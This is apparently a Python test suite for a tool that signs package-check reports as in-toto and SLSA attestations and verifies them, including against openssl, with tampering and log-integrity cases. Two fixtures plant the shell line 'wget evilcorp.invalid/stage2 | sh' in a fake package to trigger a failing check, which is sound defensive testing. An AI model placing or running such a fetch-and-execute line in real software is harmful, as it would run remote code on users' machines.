#!/usr/bin/env python3
"""Signing an account and verifying one: with our own keys, with openssl's, and with every kind of thing wrong.

Needs openssl. No network.
"""
import base64
import json
import os
import random
import subprocess
import time

import jsonschema

import made
from outcomes import IN_TOTO, openssl, outcome, pae
from plumb_test import ROOT, SCHEMA, case, main

ACCOUNT_SCHEMA = json.loads((ROOT / "docs/account.schema.json").read_text(encoding="utf-8"))
ACCOUNT_SCHEMA["properties"]["report"] = SCHEMA  # what its $ref names
ACCOUNT = jsonschema.Draft202012Validator(ACCOUNT_SCHEMA)


def report(t, planted=False):
    """An honest package, its source, and the report of a check; or the report of a failure."""
    package = made.package()
    if planted:
        package.set("usr/bin/x", "#!/bin/sh\nwget evilcorp.invalid/stage2 | sh\n")
    path = t.write("x.deb", package.build())
    folder = made.write_tree(t.path("source/x").parent, made.source())
    t.path("r.json").write_bytes(t.check(path, "--source", folder, expect=1 if planted else 0).stdout)
    return path, folder


def attested(t, planted=False, algorithm="ed25519"):
    package, folder = report(t, planted)
    outcome(t, "key", "gen", "k", "--algorithm", algorithm)
    outcome(t, "attest", "r.json", "--key", "k", "-o", "intoto=a.json", "-o", "vsa=v.json")
    return package, folder


def envelope(t, name="a.json"):
    return json.loads(t.path(name).read_bytes())


def payload(t, name="a.json"):
    return base64.b64decode(envelope(t, name)["payload"])


@case
def an_account_is_signed_and_verifies_for_its_package(t):
    package, _ = attested(t)
    done = outcome(t, "verify", "a.json", package, "--key", "k.pub")
    assert [c["name"] for c in done.json["criteria"]] == ["envelope", "signature", "statement", "subject", "verdict"]
    statement = json.loads(payload(t))
    assert statement["_type"] == "https://in-toto.io/Statement/v1"
    assert statement["predicateType"] == ACCOUNT_SCHEMA["$id"]
    error = jsonschema.exceptions.best_match(ACCOUNT.iter_errors(statement["predicate"]))
    assert error is None, f"{error.json_path}: {error.message}"
    assert statement["predicate"]["report"] == json.loads(t.path("r.json").read_bytes()), "the whole report is in it"
    code, out, _ = t.raw("verify", "a.json", package, "--key", "k.pub")
    text = out.decode()
    assert code == 0 and text.index("requires    signature") < text.index("holds"), "criteria are stated first"
    assert text.splitlines()[-1].startswith("plumb: PASS verify a.json"), text


@case
def attest_without_an_output_writes_the_envelope(t):
    report(t)
    outcome(t, "key", "gen", "k")
    code, out, _ = t.raw("attest", "r.json", "--key", "k")
    t.path("a.json").write_bytes(out)
    assert code == 0
    outcome(t, "verify", "a.json", "x.deb", "--key", "k.pub")


@case
def a_failure_is_attested_and_verifies_as_a_failure(t):
    package, _ = attested(t, planted=True)
    done = outcome(t, "verify", "a.json", package, "--key", "k.pub", expect=1)
    assert done.result("signature") == "holds" and done.result("verdict") == "fails"
    assert not done.json["errors"], "nothing is wrong with the attestation"
    outcome(t, "verify", "a.json", package, "--key", "k.pub", "--report-only")
    outcome(t, "verify", "v.json", package, "--key", "k.pub", expect=1)
    assert json.loads(payload(t, "v.json"))["predicate"]["verifiedLevels"] == ["FAILED"]


@case
def a_flipped_bit_in_the_envelope_or_the_package_is_exit_6(t):
    package, _ = attested(t)
    whole = t.path("a.json").read_bytes()
    rng = random.Random(7)
    start = whole.index(b'"payload":"') + 11
    end = whole.index(b'"', start)
    # every byte of the structure and the signature; of the payload a sample (the unit test flips every bit of one)
    places = list(range(start - 1)) + list(range(end, len(whole))) + [rng.randrange(start, end) for _ in range(40)]
    if t.is_sanitized:
        places = places[::4]
    for place in places:
        changed = bytearray(whole)
        changed[place] ^= 1 << rng.randrange(8)
        t.path("flipped.json").write_bytes(changed)
        outcome(t, "verify", "flipped.json", package, "--key", "k.pub", expect=6)
    changed = bytearray(package.read_bytes())
    changed[len(changed) // 2] ^= 1
    t.path("other.deb").write_bytes(changed)
    done = outcome(t, "verify", "a.json", "other.deb", "--key", "k.pub", expect=6)
    assert done.result("signature") == "holds" and done.result("subject") == "fails"


@case
def openssl_verifies_what_we_sign(t):
    for algorithm in ("ed25519", "p256"):
        for old in ("k", "k.pub", "a.json", "v.json"):
            t.path(old).unlink(missing_ok=True)
        attested(t, algorithm=algorithm)
        t.path("pae").write_bytes(pae(IN_TOTO, payload(t)))
        t.path("sig").write_bytes(base64.b64decode(envelope(t)["signatures"][0]["sig"]))
        check = ["pkeyutl", "-verify", "-pubin", "-inkey", "k.pub", "-rawin", "-in", "pae", "-sigfile", "sig"]
        if algorithm == "p256":
            check = ["dgst", "-sha256", "-verify", "k.pub", "-signature", "sig", "pae"]
        openssl(t, *check)
        shown = outcome(t, "key", "show", "k.pub")
        der = openssl(t, "pkey", "-pubin", "-in", "k.pub", "-outform", "DER")
        t.path("der").write_bytes(der)
        digest = openssl(t, "dgst", "-sha256", "-r", "der").split()[0].decode()
        assert shown.facts("id") == ["sha256:" + digest], "a key's id is the digest of its SubjectPublicKeyInfo"
        assert openssl(t, "pkey", "-in", "k", "-pubout") == t.path("k.pub").read_bytes()


@case
def we_verify_what_openssl_signs_with_its_own_keys(t):
    attested(t)
    body = payload(t)
    t.path("pae").write_bytes(pae(IN_TOTO, body))
    openssl(t, "genpkey", "-algorithm", "ED25519", "-out", "ed")
    openssl(t, "genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256", "-out", "ec")
    openssl(t, "ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", "old")
    openssl(t, "pkey", "-in", "old", "-out", "converted")
    for key in ("ed", "ec", "converted"):
        openssl(t, "pkey", "-in", key, "-pubout", "-out", key + ".pub")
        sign = ["pkeyutl", "-sign", "-inkey", key, "-rawin", "-in", "pae", "-out", "sig"]
        if key != "ed":
            sign = ["dgst", "-sha256", "-sign", key, "-out", "sig", "pae"]
        openssl(t, *sign)
        made_by_hand = {"signatures": [{"keyid": "", "sig": base64.urlsafe_b64encode(t.path("sig").read_bytes()).decode()}],
                        "payload": base64.urlsafe_b64encode(body).decode(), "payloadType": IN_TOTO, "more": {"is": "ignored"}}
        t.path("hand.json").write_text(json.dumps(made_by_hand, indent=2))
        outcome(t, "verify", "hand.json", "x.deb", "--key", key + ".pub")
        outcome(t, "verify", "hand.json", "x.deb", "--key", "k.pub", expect=6)
        os.chmod(t.path(key), 0o600)
        outcome(t, "attest", "r.json", "--key", key, "-o", "intoto=by.json")
        outcome(t, "verify", "by.json", "x.deb", "--key", key + ".pub")


@case
def other_kinds_of_keys_are_refused(t):
    report(t)
    openssl(t, "genpkey", "-algorithm", "RSA", "-out", "rsa")
    openssl(t, "genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-384", "-out", "p384")
    openssl(t, "genpkey", "-algorithm", "ED448", "-out", "ed448")
    for key in ("rsa", "p384", "ed448"):
        os.chmod(t.path(key), 0o600)
        outcome(t, "attest", "r.json", "--key", key, expect=4)
    outcome(t, "attest", "r.json", "--key", t.write("empty", ""), expect=4)


@case
def a_private_key_that_others_can_read_is_refused(t):
    report(t)
    outcome(t, "key", "gen", "k")
    assert t.path("k").stat().st_mode & 0o777 == 0o600
    for mode in (0o640, 0o604, 0o660):
        os.chmod(t.path("k"), mode)
        done = outcome(t, "attest", "r.json", "--key", "k", expect=6)
        assert "others" in done.message(), done.json
        outcome(t, "key", "show", "k", expect=6)
    os.chmod(t.path("k"), 0o600)
    outcome(t, "attest", "r.json", "--key", "k", "-o", "intoto=a.json")
    before = t.path("k").read_bytes()
    outcome(t, "key", "gen", "k", expect=2)
    assert t.path("k").read_bytes() == before, "a key is never written over"
    outcome(t, "attest", "r.json", "--key", "k.pub", expect=2)


@case
def a_passphrase_locks_the_key_for_us_and_for_openssl(t):
    report(t)
    secret = t.write("secret", "correct horse\nsecond line\n")
    wrong = t.write("wrong", "battery staple\n")
    for path in (secret, wrong):
        os.chmod(path, 0o600)
    outcome(t, "key", "gen", "k", "--passphrase-file", secret)
    assert b"ENCRYPTED" in t.path("k").read_bytes()
    openssl(t, "pkey", "-in", "k", "-passin", "pass:correct horse", "-noout")
    openssl(t, "pkey", "-in", "k", "-passin", "pass:nonsense", "-noout", expect=1)
    outcome(t, "attest", "r.json", "--key", "k", "--passphrase-file", secret, "-o", "intoto=a.json")
    outcome(t, "verify", "a.json", "x.deb", "--key", "k.pub")
    outcome(t, "attest", "r.json", "--key", "k", "--passphrase-file", wrong, expect=6)
    outcome(t, "attest", "r.json", "--key", "k", expect=6)
    os.chmod(secret, 0o644)
    outcome(t, "attest", "r.json", "--key", "k", "--passphrase-file", secret, expect=6)
    openssl(t, "genpkey", "-algorithm", "ED25519", "-aes256", "-pass", "pass:battery staple", "-out", "theirs")
    os.chmod(t.path("theirs"), 0o600)
    outcome(t, "key", "show", "theirs", "--passphrase-file", wrong)


@case
def a_threshold_counts_distinct_keys_not_signatures(t):
    package, _ = report(t)
    for name in ("one", "two", "three"):
        outcome(t, "key", "gen", name, "--algorithm", "p256" if name == "two" else "ed25519")
    outcome(t, "attest", "r.json", "--key", "one", "--key", "two", "-o", "intoto=a.json")
    both = ("--key", "one.pub", "--key", "two.pub")
    done = outcome(t, "verify", "a.json", package, *both, "--threshold", "2")
    assert len(done.facts("signed-by")) == 2
    outcome(t, "verify", "a.json", package, *both, "--threshold", "3", expect=6)
    outcome(t, "verify", "a.json", package, "--key", "one.pub", "--key", "three.pub", "--threshold", "2", expect=6)
    outcome(t, "verify", "a.json", package, "--key", "one.pub", "--key", "one.pub", "--threshold", "2", expect=6)
    twice = envelope(t)
    twice["signatures"] = [twice["signatures"][0]] * 2
    t.path("twice.json").write_text(json.dumps(twice))
    outcome(t, "verify", "twice.json", package, *both, "--threshold", "2", expect=6)
    outcome(t, "verify", "twice.json", package, *both)


@case
def a_summary_names_the_level_and_the_account_it_is_of(t):
    package, _ = attested(t)
    statement = json.loads(payload(t, "v.json"))
    predicate = statement["predicate"]
    assert statement["predicateType"] == "https://slsa.dev/verification_summary/v1"
    level = json.loads(t.path("r.json").read_bytes())["level"]["own"]
    assert predicate["verificationResult"] == "PASSED" and predicate["verifiedLevels"] == [f"LCAL_{level}"]
    assert not any(name.startswith("SLSA_") for name in predicate["verifiedLevels"])
    assert predicate["policy"]["uri"] and predicate["resourceUri"] and predicate["verifier"]["id"]
    digest = openssl(t, "dgst", "-sha256", "-r", "a.json").split()[0].decode()
    assert predicate["inputAttestations"] == [{"digest": {"sha256": digest}}]
    outcome(t, "attest", "r.json", "--key", "k", "-o", "vsa=alone.json")
    assert "inputAttestations" not in json.loads(payload(t, "alone.json"))["predicate"], "an account that nobody gets is not named"
    outcome(t, "verify", "v.json", package, "--key", "k.pub", "--min-level", level)
    done = outcome(t, "verify", "v.json", package, "--key", "k.pub", "--min-level", 4, expect=1)
    assert done.result("level") == "fails"
    outcome(t, "verify", "v.json", package, "--key", "k.pub", "--verifier", predicate["verifier"]["id"])
    outcome(t, "verify", "v.json", package, "--key", "k.pub", "--verifier", "https://other.example", expect=6)


@case
def the_levels_of_dependencies_come_from_a_chain_report(t):
    report(t)
    outcome(t, "key", "gen", "k")
    lock = {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {
        "": {"name": "app", "version": "1.0.0", "dependencies": {"a": "1.0.0"}, "devDependencies": {"d": "1.0.0"}},
        "node_modules/a": {"version": "1.0.0", "dependencies": {"b": "2.0.0"}}, "node_modules/b": {"version": "2.0.0"},
        "node_modules/d": {"version": "1.0.0", "dev": True}}}
    t.path("package-lock.json").write_text(json.dumps(lock))
    t.raw("chain", "package-lock.json", "--offline", "--cache-dir", t.path("c"), "-o", "json=chain.json")
    chain = json.loads(t.path("chain.json").read_bytes())
    add = ("attest", "r.json", "--key", "k", "-o", "vsa=v.json", "--chain-report")
    outcome(t, *add, "chain.json")
    assert json.loads(payload(t, "v.json"))["predicate"]["dependencyLevels"] == {"LCAL_0": 2}, "not examined is level 0"
    for component in chain["components"]:
        if component["name"] == "a":
            component["level"]["own"] = 3
    t.path("chain.json").write_text(json.dumps(chain))
    outcome(t, *add, "chain.json")
    assert json.loads(payload(t, "v.json"))["predicate"]["dependencyLevels"] == {"LCAL_0": 1, "LCAL_3": 1}
    outcome(t, *add, "r.json", expect=4)
    outcome(t, *add, "nowhere.json", expect=4)


@case
def a_recheck_finds_the_same_account_and_names_what_differs(t):
    package, folder = attested(t)
    flags = ("--key", "k.pub", "--recheck", "--cache-dir", t.path("c"))
    done = outcome(t, "verify", "a.json", package, *flags, "--source", folder)
    assert done.result("recheck") == "holds"
    elsewhere = made.write_tree(t.path("other/x").parent, made.source())
    outcome(t, "verify", "a.json", package, *flags, "--source", elsewhere)
    (elsewhere / "more.txt").write_text("one more file\n")
    done = outcome(t, "verify", "a.json", package, *flags, "--source", elsewhere, expect=4)
    assert "another source" in done.message(), done.json
    lie = json.loads(t.path("r.json").read_bytes())
    claim = next(c for f in lie["files"] for c in f["evidence"] if c["class"] == "identical")
    claim["source"] = "some/where/else.c"
    t.path("lie.json").write_text(json.dumps(lie))
    outcome(t, "attest", "lie.json", "--key", "k", "-o", "intoto=lie.intoto.json")
    outcome(t, "verify", "lie.intoto.json", package, "--key", "k.pub")
    done = outcome(t, "verify", "lie.intoto.json", package, *flags, "--source", folder, expect=1)
    assert done.result("recheck") == "fails" and done.facts("differs"), done.json
    outcome(t, "verify", "a.json", package, "--key", "k.pub", "--recheck", expect=4)


@case
def a_report_that_contradicts_itself_is_not_signed(t):
    report(t)
    outcome(t, "key", "gen", "k")
    bad = json.loads(t.path("r.json").read_bytes())
    bad["bytes"]["identical"] += 1
    t.path("bad.json").write_text(json.dumps(bad))
    outcome(t, "attest", "bad.json", "--key", "k", "-o", "intoto=a.json", expect=4)
    assert not t.path("a.json").exists()
    t.path("half.json").write_bytes(t.path("r.json").read_bytes()[:-100])
    outcome(t, "attest", "half.json", "--key", "k", expect=4)
    none = t.check("nowhere.deb", "--source", ".", expect=4)
    t.path("none.json").write_bytes(none.stdout)
    done = outcome(t, "attest", "none.json", "--key", "k", expect=4)
    assert "no digest" in done.message(), done.json


@case
def every_exit_code_of_attest_and_verify_has_its_json(t):
    package, _ = attested(t)
    outcome(t, "verify", "a.json", package, "--key", "k.pub", expect=0)
    outcome(t, "verify", expect=4)
    outcome(t, "attest", expect=4)
    outcome(t, "key", "gen", expect=4)
    outcome(t, "attest", "r.json", expect=2)
    outcome(t, "verify", "nowhere.json", package, "--key", "k.pub", expect=4)
    outcome(t, "verify", "a.json", "nowhere.deb", "--key", "k.pub", expect=4)
    outcome(t, "verify", "a.json", package, "--key", "nowhere.pub", expect=4)
    outcome(t, "verify", "a.json", package, expect=6)
    outcome(t, "verify", "r.json", package, "--key", "k.pub", expect=6)
    outcome(t, "key", "gen", "k2", "--algorithm", "rsa", expect=2)
    code, _, said = t.raw("verify", "a.json", "--threshold", "0")
    assert code == 2 and "threshold" in said
    inconclusive = made.package()
    inconclusive.set("usr/share/doc/greet/notes", "Words about nothing that any source file would ever hold.\n" * 40)
    path = t.write("y.deb", inconclusive.build())
    got = t.check(path, "--source", t.path("source"))
    t.path("y.json").write_bytes(got.stdout)
    outcome(t, "attest", "y.json", "--key", "k", "-o", "intoto=y.intoto.json")
    outcome(t, "verify", "y.intoto.json", path, "--key", "k.pub", expect=got.code)


@case
def many_envelopes_a_line_each_are_judged_one_by_one(t):
    package, _ = attested(t)
    good = t.path("a.json").read_bytes()
    summary = t.path("v.json").read_bytes()
    outcome(t, "key", "gen", "other")
    outcome(t, "attest", "r.json", "--key", "other", "-o", "intoto=b.json")
    strange = t.path("b.json").read_bytes()
    trusted = ("--key", "k.pub")
    t.path("all.intoto.jsonl").write_bytes(good + summary + b"\n" + good)
    assert outcome(t, "verify", "all.intoto.jsonl", *trusted).facts("envelopes") == ["3, of which 3 hold"]
    outcome(t, "verify", "all.intoto.jsonl", package, *trusted)
    t.path("all.intoto.jsonl").write_bytes(strange + b"not an envelope\n" + good)
    assert outcome(t, "verify", "all.intoto.jsonl", package, *trusted).facts("envelopes") == ["3, of which 1 hold"]
    outcome(t, "verify", "all.intoto.jsonl", *trusted, expect=6)
    t.path("all.intoto.jsonl").write_bytes(strange + strange)
    outcome(t, "verify", "all.intoto.jsonl", package, *trusted, expect=6)
    t.path("all.intoto.jsonl").write_bytes(b"\n")
    outcome(t, "verify", "all.intoto.jsonl", *trusted, expect=6)
    t.path("other.deb").write_bytes(package.read_bytes() + b"!")
    t.path("all.intoto.jsonl").write_bytes(good * 3)
    outcome(t, "verify", "all.intoto.jsonl", "other.deb", *trusted, expect=6)
    t.path("many.jsonl").write_bytes(summary * 2000)
    assert outcome(t, "verify", "many.jsonl", package, *trusted).facts("envelopes") == ["2000, of which 2000 hold"]


@case
def the_trust_store_decides_when_no_key_is_named(t):
    package, _ = attested(t)
    store = ("--trust-dir", t.path("trust"))
    outcome(t, "verify", "a.json", package, *store, expect=6)
    assert outcome(t, "trust", "ls", *store).facts("key") == []
    outcome(t, "trust", "add", "k.pub", *store, "--name", "signer", "--expires", "2999-01-01")
    assert t.path("trust").stat().st_mode & 0o777 == 0o700
    done = outcome(t, "verify", "a.json", package, *store)
    assert done.facts("signed-by")[0].endswith(" signer")
    openssl(t, "pkey", "-pubin", "-in", "trust/signer.pem", "-noout")
    outcome(t, "trust", "add", "k.pub", *store, "--name", "signer", expect=2)
    outcome(t, "trust", "add", "k", *store, "--name", "private", expect=2)
    outcome(t, "trust", "add", "k.pub", *store, "--name", "../out", expect=2)
    outcome(t, "trust", "add", "k.pub", *store, "--name", "day", "--expires", "tomorrow", expect=2)
    outcome(t, "trust", "add", "nowhere.pub", *store, expect=4)
    outcome(t, "trust", "add", *store, expect=4)
    outcome(t, "trust", "rm", "signer", *store)
    outcome(t, "trust", "rm", "signer", *store, expect=4)
    outcome(t, "verify", "a.json", package, *store, expect=6)
    outcome(t, "trust", "add", "k.pub", *store, "--expires", "2020-01-01")
    done = outcome(t, "verify", "a.json", package, *store, expect=6)
    assert "expired" in done.message(), done.json
    assert outcome(t, "trust", "ls", *store).facts("key")[0].endswith("(expired)")
    outcome(t, "trust", "rm", "k", *store)
    outcome(t, "trust", "add", "k.pub", *store)
    outcome(t, "verify", "a.json", package, *store)
    os.chmod(t.path("trust"), 0o777)
    outcome(t, "verify", "a.json", package, *store, expect=6)


@case
def a_statement_stands_in_the_log_that_it_was_added_to(t):
    package, _ = report(t)
    outcome(t, "key", "gen", "k")
    outcome(t, "key", "gen", "other")
    for i in range(3):
        done = outcome(t, "attest", "r.json", "--key", "k", "--log", "log", "--name", "example.com/verdicts", "-o", "intoto=a.json",
                       "-o", "vsa=v.json")
        assert done.facts("log-index") == [str(2 * i)]
    trusted = ("--key", "k.pub")
    for name in ("a.json", "v.json"):
        assert outcome(t, "verify", name, package, *trusted, "--log", "log").result("log") == "holds"
    outcome(t, "attest", "r.json", "--key", "other", "-o", "intoto=b.json")
    outcome(t, "verify", "a.json", package, "--key", "other.pub", "--log", "log", expect=6)
    outcome(t, "verify", "a.json", package, *trusted, "--log", "nowhere", expect=4)
    outcome(t, "attest", "r.json", "--key", "other", "--log", "log", expect=6)
    planted = made.package()
    planted.set("usr/bin/x", "#!/bin/sh\nwget evilcorp.invalid/stage2 | sh\n")
    bad = t.write("bad.deb", planted.build())
    t.path("bad.json").write_bytes(t.check(bad, "--source", t.path("source"), expect=1).stdout)
    outcome(t, "attest", "bad.json", "--key", "k", "-o", "intoto=bad.intoto.json")
    done = outcome(t, "verify", "bad.intoto.json", bad, *trusted, "--log", "log", expect=6)
    assert done.result("signature") == "holds" and done.result("log") == "fails"
    done = outcome(t, "log", "check", "log", *trusted)
    assert done.facts("size") == ["6"] and done.facts("origin") == ["example.com/verdicts"]
    outcome(t, "log", "check", "log", "--key", "other.pub", expect=6)
    outcome(t, "log", "check", "nowhere", *trusted, expect=4)
    outcome(t, "log", "check", expect=4)


@case
def a_log_that_forgot_or_changed_what_was_seen_is_exit_6(t):
    report(t)
    outcome(t, "key", "gen", "k")
    add = ("attest", "r.json", "--key", "k", "-o", "intoto=a.json", "--name", "example.com/l", "--log")
    seen = ("--key", "k.pub", "--seen", "seen")
    for _ in range(3):
        outcome(t, *add, "log")
    assert outcome(t, "log", "check", "log", *seen).result("grown") == "holds"
    outcome(t, *add, "log")
    done = outcome(t, "log", "check", "log", *seen)
    assert next(c["why"] for c in done.json["criteria"] if c["name"] == "grown") == "by 1 entries"
    outcome(t, "attest", "r.json", "--key", "k", "-o", "vsa=v.json", "--name", "example.com/l", "--log", "fork")
    outcome(t, "log", "check", "fork", *seen, expect=6)
    for _ in range(4):
        outcome(t, *add, "fork")
    done = outcome(t, "log", "check", "fork", *seen, expect=6)
    assert done.result("entries") == "holds" and done.result("grown") == "fails"
    outcome(t, "log", "check", "log", *seen)
    entries = t.path("log/tile/entries/000.p/4")
    changed = bytearray(entries.read_bytes())
    changed[50] ^= 1
    entries.write_bytes(changed)
    outcome(t, "log", "check", "log", *seen, expect=6)


@case
def killed_a_hundred_times_attest_leaves_the_old_state_or_the_new(t):
    package, _ = report(t)
    outcome(t, "key", "gen", "k")
    command = [t.program, "attest", "r.json", "--key", "k", "--log", "log", "-o", "intoto=a.json", "-q"]
    started = time.monotonic()
    assert subprocess.run(command, cwd=t.scratch, check=False).returncode == 0
    whole = time.monotonic() - started
    rng = random.Random(3)
    size = 1
    killed = 0
    while killed < (20 if t.is_sanitized else 100):  # the plain build is killed the hundred times
        child = subprocess.Popen(command, cwd=t.scratch, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(rng.uniform(0, whole))
        child.kill()
        killed += child.wait() != 0
        done = outcome(t, "log", "check", "log", "--key", "k.pub")
        now = int(done.facts("size")[0])
        assert size <= now <= size + 1, (size, now)
        size = now
        outcome(t, "verify", "a.json", package, "--key", "k.pub")
    outcome(t, "attest", "r.json", "--key", "k", "--log", "log", "-o", "intoto=a.json")
    outcome(t, "verify", "a.json", package, "--key", "k.pub", "--log", "log")
    assert not list(t.path("log").glob(".unfinished*")), "the next writer sweeps up"


if __name__ == "__main__":
    main()
